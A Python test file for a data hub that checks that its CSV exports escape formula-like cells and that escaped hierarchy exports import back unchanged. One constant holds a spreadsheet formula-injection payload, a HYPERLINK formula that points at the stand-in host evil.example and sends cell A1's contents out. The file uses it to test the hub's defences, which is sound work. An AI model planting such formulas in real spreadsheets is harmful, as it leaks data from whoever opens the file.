"""Every CSV the hub writes escapes formula-like cells: `mdm export crosswalk`, file-drop
snapshots, and hierarchy exports over the CLI and the API; a hierarchy export imports back
unchanged."""
from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from mdm.context import cli_context
from mdm.db import db
from mdm.publication import service

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def mdm(app: Any, clean_db: None) -> Any:
    runner = app.test_cli_runner()

    def run(*args: str) -> Any:
        result = runner.invoke(args=list(args))
        assert result.exit_code == 0, result.output
        return result.stdout

    return run


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_crosswalk_export_escapes_formulas(mdm: Any, client: Any, admin: Any,
                                           sources: Any) -> None:
    for sid, name in (("=2+5", "Acme GmbH"), ("-100", "Other AG"), ("4711", "Third SE")):
        r = client.post("/domains/supplier/records", headers=admin, json={
            "source_system": "SAP", "source_id": sid, "attributes": {"name": name}})
        assert r.status_code == 200, r.json
    rows = _cells(mdm("export", "crosswalk", "supplier"))
    ids = sorted(row[1] for row in rows[1:])
    assert ids == ["'-100", "'=2+5", "4711"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_file_drop_snapshot_escapes_formulas(app: Any, client: Any, admin: Any, sources: Any,
                                             tmp_path: Path) -> None:
    r = client.post("/domains/supplier/records", headers=admin, json={
        "source_system": "SAP", "source_id": "1", "attributes": {"name": FORMULA}})
    assert r.status_code == 200, r.json
    with app.app_context():
        sub, _ = service.create(db.session, cli_context(), app.extensions["mdm_domains"], {
            "name": "drop", "domains": ["supplier"], "channel": "file", "trigger": "schedule",
            "schedule": "0 2 * * *", "channel_config": {"directory": str(tmp_path)}})
        run = service.run_now(db.new_session, cli_context(), app.extensions["mdm_domains"],
                              sub.id)
    assert run.status == "succeeded", run.error
    [data] = [f for f in run.files if f.endswith(".csv")]
    rows = _cells((tmp_path / data).read_text(encoding="utf-8"))
    name = rows[0].index("name")
    assert rows[1][name] == "'" + FORMULA


def test_hierarchy_exports_escape_and_import_back(mdm: Any, client: Any, make_key: Any,
                                                  tmp_path: Path) -> None:
    mdm("sources", "add", "SAP", "--name", "SAP", "--kind", "erp")
    chart = tmp_path / "chart.csv"
    chart.write_text(
        "source_id,chart,code,name,account_type,normal_balance,parent_code,posting_allowed\n"
        "G-PL,G,PL,=1+2,,,,false\n"
        "G-4000,G,4000,@SUM(A1),revenue,credit,PL,true\n"
        "G-5000,G,5000,'=quoted already,expense,debit,PL,true\n", encoding="utf-8")
    mdm("load", "gl_account", str(chart), "--source", "SAP")
    mdm("hierarchy", "import", "G-MGMT", str(chart), "--domain", "gl_account", "--chart", "G",
        "--kind", "management")
    author, second = make_key("steward"), make_key("steward")
    publish(client, "G-MGMT", author, second)
    from_cli = mdm("hierarchy", "export", "G-MGMT")
    from_api = client.get("/hierarchies/G-MGMT/export.csv", headers=author)
    assert from_api.status_code == 200
    for text in (from_cli, from_api.get_data(as_text=True)):
        names = {row[0]: row[2] for row in _cells(text)[1:]}
        # a quote before '=' in an imported file is read as the escape a spreadsheet writes
        assert names == {"PL": "'=1+2", "4000": "'@SUM(A1)", "5000": "'=quoted already"}
    # an exported file reads back as the same hierarchy
    exported = tmp_path / "exported.csv"
    exported.write_text(from_cli, encoding="utf-8")
    mdm("hierarchy", "import", "G-COPY", str(exported), "--domain", "gl_account",
        "--chart", "G", "--kind", "management")
    publish(client, "G-COPY", author, second)
    nodes = client.get("/hierarchies/G-COPY/export", headers=author).json["nodes"]
    assert {n["node"]: n["name"] for n in nodes} == {
        "PL": "=1+2", "4000": "@SUM(A1)", "5000": "=quoted already"}


def publish(client: Any, name: str, author: Any, second: Any) -> None:
    for step, key in (("submit", author), ("approve", second), ("publish", second)):
        r = client.post(f"/hierarchies/{name}/versions/1/{step}", headers=key, json={})
        assert r.status_code < 300, r.json
